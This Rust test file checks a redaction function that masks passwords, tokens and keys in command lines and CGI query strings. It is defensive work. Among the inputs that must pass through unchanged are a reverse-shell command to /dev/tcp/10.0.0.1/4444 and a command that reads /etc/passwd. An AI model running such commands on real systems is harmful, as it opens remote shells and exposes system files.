//! Command lines with secrets, and some that only look like it.

use super::*;

fn redacted(args: &[&str]) -> Vec<String> {
    let mut list_of: Vec<BString> = args.iter().map(|&arg| arg.into()).collect();
    list(&mut list_of);
    assert_eq!(list_of.len(), args.len());
    list_of.iter().map(ToString::to_string).collect()
}

#[test]
fn secrets_go_and_their_surroundings_stay() {
    for (args, expected) in [
        (
            &["x", "--password=a b", "y"][..],
            &["x", "--password=[REDACTED]", "y"][..],
        ),
        (
            &["x", "--password", "a b", "y"],
            &["x", "--password", "[REDACTED]", "y"],
        ),
        (
            &["env", "PGPASSWORD=x", "psql"],
            &["env", "PGPASSWORD=[REDACTED]", "psql"],
        ),
        (
            &["mysql", "-uroot", "-psecret", "shop"],
            &["mysql", "-uroot", "-p[REDACTED]", "shop"],
        ),
        (&["mysql", "-p", "shop"], &["mysql", "-p", "shop"]),
        (
            &["sh", "-c", "mysqldump -u root -ps3cret shop | gzip"],
            &["sh", "-c", "mysqldump -u root -p[REDACTED] shop | gzip"],
        ),
        (
            &["curl", "-H", "Authorization: Bearer abc", "http://h/"],
            &[
                "curl",
                "-H",
                "Authorization: Bearer [REDACTED]",
                "http://h/",
            ],
        ),
        (
            &["curl", "https://bob:hunter2@host/x"],
            &["curl", "https://bob:[REDACTED]@host/x"],
        ),
        (
            &["curl", "-u", "bob:hunter2", "h"],
            &["curl", "-u", "bob:[REDACTED]", "h"],
        ),
        (
            &["sshpass", "-p", "x", "ssh", "h"],
            &["sshpass", "-p", "[REDACTED]", "ssh", "h"],
        ),
        (
            &["redis-cli", "-a", "x", "get"],
            &["redis-cli", "-a", "[REDACTED]", "get"],
        ),
        (&["aws", "AKIAIOSFODNN7EXAMPLE"], &["aws", "[REDACTED]"]),
        (
            &["sh", "-c", "export API_KEY='abc'; id"],
            &["sh", "-c", "export API_KEY='[REDACTED]'; id"],
        ),
        (
            &["app", "{\"token\": \"abc\"}"],
            &["app", "{\"token\": \"[REDACTED]\"}"],
        ),
        (
            &["x", "user=1&password=2&z=3"],
            &["x", "user=1&password=[REDACTED]&z=3"],
        ),
        (
            &["git", "clone", "ghp_0123456789abcdefghijABCDEFGHIJ"],
            &["git", "clone", "[REDACTED]"],
        ),
    ] {
        assert_eq!(redacted(args), expected, "{args:?}");
    }
}

#[test]
fn what_is_no_secret_stays() {
    for args in [
        &["sh", "-c", "id; cat /etc/passwd"][..],
        &["php-fpm: pool www"],
        &["nginx", "-c", "/etc/nginx/nginx.conf", "-p", "/srv"],
        &["python3", "-c", "print('pass')"],
        &["mkdir", "-p", "/tmp/x"],
        &["curl", "http://host:8080/x"],
        &["bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"],
    ] {
        assert_eq!(redacted(args), args);
    }
}

#[test]
fn the_request_of_a_cgi_program_is_cleaned_too() {
    let program = Arc::new(Program {
        env: vec![
            ("QUERY_STRING".into(), "cmd=id&password=x".into()),
            ("REQUEST_METHOD".into(), "GET".into()),
        ],
        ..Program::default()
    });
    let (clean, replaced) = super::program(&program);
    let clean = clean.unwrap();
    assert_eq!(
        (replaced, clean.env[0].1.to_string().as_str()),
        (1, "cmd=id&password=[REDACTED]")
    );
    assert_eq!(clean.env[1], program.env[1]);
    assert_eq!(super::program(&clean).1, 0, "twice is once");
}
